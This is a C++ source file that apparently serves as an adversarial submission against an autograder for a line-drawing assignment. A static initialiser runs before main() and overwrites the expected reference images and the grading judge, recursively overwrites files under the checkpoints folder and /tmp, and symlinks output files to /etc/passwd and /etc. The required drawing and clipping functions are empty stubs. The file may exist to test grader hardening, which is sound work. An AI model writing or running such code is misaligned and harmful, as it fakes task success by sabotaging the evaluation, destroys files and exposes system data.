// Attack: before main(), try to change what decides the grade: overwrite the expected images and
// the trusted judge, plant symbolic links so the judge writes over other files, write into
// every results folder of every grading run, and replace the artifacts the judge will read by
// links to secrets. Then draw nothing.
#include <dirent.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdio>
#include <string>

#include "lines.h"

namespace {
void clobber(const std::string& path) {
    if (FILE* f = std::fopen(path.c_str(), "wb")) {
        std::fputs("tampered", f);
        std::fclose(f);
    }
}
void sweep(const std::string& dir, int depth) {  // every file below dir, as far as it can see
    if (depth > 5) return;
    DIR* d = opendir(dir.c_str());
    if (!d) return;
    while (dirent* e = readdir(d)) {
        const std::string name = e->d_name;
        if (name == "." || name == "..") continue;
        const std::string p = dir + "/" + name;
        struct stat st {};
        if (lstat(p.c_str(), &st) != 0) continue;
        if (S_ISDIR(st.st_mode)) sweep(p, depth + 1);
        else if (S_ISREG(st.st_mode)) clobber(p);
    }
    closedir(d);
}
const bool attacked = [] {
    clobber("@SOURCE@/checkpoints/expected/m1/m1.octant_1.png");
    clobber("@GRADE@");
    sweep("@SOURCE@/checkpoints/expected", 0);
    sweep("/tmp", 0);
    mkdir("out", 0755);
    symlink("/etc/passwd", "out/main.png");
    symlink("@SOURCE@/checkpoints/expected/m1/m1.octant_1.png", "out/reversed.png");
    symlink("/etc", "out/values.txt");
    return true;
}();
}  // namespace

namespace m1 {
inline namespace RASTER_FLAVOUR {
int outcode(Vec2, const Rect&) { return kInside; }
bool clip_line(Vec2&, Vec2&, const Rect&) { return false; }
void draw_line(Image&, Vec2, Vec2, Color) {}
void draw_line_aa(Image&, Vec2, Vec2, Color) {}
}  // namespace RASTER_FLAVOUR
}  // namespace m1
